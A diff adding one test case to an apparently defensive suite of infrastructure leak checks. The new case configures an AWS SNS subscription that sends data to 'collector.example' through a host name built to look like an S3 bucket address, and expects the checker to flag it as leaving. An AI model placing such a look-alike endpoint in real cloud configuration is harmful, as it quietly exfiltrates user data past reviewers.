@@ -692,6 +692,26 @@ export const LEAKS: readonly Leak[] = [
     ],
   },
   {
+    title: "a topic sends messages to a host whose name begins as a bucket's of the site does",
+    verdict: "leaves",
+    make: (output) => {
+      output.add("dublin", "aws_sns_topic_subscription", "out", {
+        topic_arn: "arn:aws:sns:eu-west-1:200000000002:news",
+        protocol: "https",
+        endpoint: `https://${USER_DATA}.s3.eu-west-1.amazonaws.com.collector.example/in`,
+      });
+    },
+    hops: [
+      {
+        stack: "dublin",
+        address: "aws_sns_topic_subscription.out",
+        jsonPath: "endpoint",
+        mechanism: "SNS subscription",
+        to: "collector.example",
+      },
+    ],
+  },
+  {
     title: "another account may receive messages of a queue that objects are announced on",
     verdict: "leaves",
     make: (output) => {
